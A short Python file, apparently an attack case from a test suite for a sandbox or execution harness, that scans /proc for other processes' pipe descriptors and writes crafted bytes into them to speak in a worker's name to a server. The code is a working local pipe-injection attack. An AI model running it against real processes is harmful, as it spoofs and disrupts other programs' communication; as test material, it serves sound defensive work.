"""Looks for pipes of the worker in /proc and talks on them in its name.  Harm: the worker is gone or obeys, the server
believes it."""

import os

from kit import Harmless, attack, others

HARM = ("worker",)


def talk(pid):
    said = 0
    for descriptor in os.listdir(f"/proc/{pid}/fd"):
        path = f"/proc/{pid}/fd/{descriptor}"
        if "pipe" in os.readlink(path):
            pipe = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            said += os.write(pipe, b"\x00\x00\x00\x02{}" * 100 + b"\xff" * 64)
            os.close(pipe)
    return said


for pid in others():
    attack(f"pipes of {pid}", lambda pid=pid: talk(pid))


# fx: Model()(f32[2, 8])
class Model(Harmless):
    pass
